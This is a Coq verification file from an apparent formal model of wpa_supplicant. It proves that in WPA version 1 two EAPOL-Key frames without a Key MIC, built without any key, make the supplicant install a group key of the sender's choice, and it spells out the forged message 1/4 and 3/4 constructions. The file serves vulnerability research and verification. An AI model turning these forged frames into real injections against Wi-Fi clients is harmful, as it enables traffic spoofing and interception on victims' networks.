(* ===== verification/WpaForge.v ===== *)
(** * A WPA (not RSN) session under forged frames

    rx_eapol_authentic of WpaRx.v is restricted to RSN.  This file shows that it
    has to be: with the protocol of WPA version 1, a message 3/4 whose flags claim
    encrypted key data but carry no Key MIC is processed with its key data as
    received, because both checks of wpa_sm_rx_eapol() that would drop it apply to
    RSN only.  Together with an unauthenticated message 1/4, which sets the ANonce,
    it hands a group key of the sender's choice to the driver. *)

From stdpp Require Import gmap.
From S2P Require Import Prelude WpaDefs WpaCommon Crypto CryptoDemo Rc4 AesWrap RsnIe KeyData WpaTypes Pmksa WpaDemo WpaSm WpaHandshake WpaOps WpaSession.

(** ** The session before the forgery *)

Definition demo_wpa_ie : bytes :=
  default [] (wpa_gen_wpa_ie_wpa 100 WPA_CIPHER_CCMP WPA_CIPHER_CCMP WPA_KEY_MGMT_PSK).

Definition wpa1_assoc : list (wpa_op (E := unit)) :=
  demo_assoc WPA_PROTO_WPA WPA_CIPHER_CCMP WPA_CIPHER_CCMP (Some demo_wpa_ie) None.

(** A message of WPA version 1 with Key Data. *)
Definition wpa1_frame (info key_len n : Z) (nonce data : bytes) : bytes :=
  ap_frame EAPOL_KEY_TYPE_WPA info key_len n nonce data.

Definition wpa1_msg_1 : bytes := wpa1_frame 0x008a 16 1 demo_anonce [].

Definition wpa1_waiting : option (wpa_sm unit) := demo_run (wpa1_assoc ++ [OpRxEapol demo_bssid wpa1_msg_1]).
Definition wpa1_ptk : wpa_ptk :=
  match wpa1_waiting with Some s => ap_ptk WPA_CIPHER_CCMP (snonce s) | None => ptk_zero end.

(** The 4-way handshake and the group key handshake, by the access point. *)
Definition wpa1_session : list (wpa_op (E := unit)) :=
  wpa1_assoc
  ++ [OpRxEapol demo_bssid wpa1_msg_1;
      OpRxEapol demo_bssid (ap_sign wpa1_ptk (wpa1_frame 0x01ca 16 2 demo_anonce demo_wpa_ie));
      OpRxEapol demo_bssid (ap_sign wpa1_ptk (wpa1_frame 0x0392 16 3 (replicate 32 0) (ap_wrap wpa1_ptk demo_gtk)))].

(** ** The forgery: neither frame has a Key MIC *)

Definition forged_gtk : bytes := replicate 16 0xee.
Definition forged_nonce : bytes := replicate 32 0x66.

Definition forged_msg_1 : bytes := wpa1_frame 0x008a 16 4 forged_nonce [].
Definition forged_msg_3 : bytes := wpa1_frame 0x108a 16 5 forged_nonce (demo_wpa_ie ++ gtk_kde 2 forged_gtk).

Definition unauthenticated (f : bytes) : bool := Z.land (key_info f) WPA_KEY_INFO_MIC =? 0.

Definition broadcast : bytes := replicate 6 0xff.

(** With the protocol WPA (version 1), two frames that carry no Key MIC, built
    without any key and sent after a complete session, make the supplicant hand the
    group key they contain to the driver; the replay counter of the session stays
    as it was and the state is again "completed". *)
Example wpa1_forged_group_key :
  unauthenticated forged_msg_1 = true /\ unauthenticated forged_msg_3 = true
  /\ match demo_run wpa1_session,
           demo_run (wpa1_session ++ [OpRxEapol demo_bssid forged_msg_1; OpRxEapol demo_bssid forged_msg_3]) with
     | Some s, Some s' =>
         set_keys (events (pm s)) = [(0, Some demo_bssid, key_of (tk wpa1_ptk) (tk_len wpa1_ptk)); (1, Some broadcast, demo_gtk)]
         /\ set_keys (events (pm s')) = set_keys (events (pm s)) ++ [(2, Some broadcast, forged_gtk)]
         /\ rx_replay_counter s' = rx_replay_counter s /\ ptk s' = ptk s
         /\ wpa_state s' = WPA_COMPLETED
     | _, _ => False
     end.
Proof. vm_compute. repeat split. Qed.
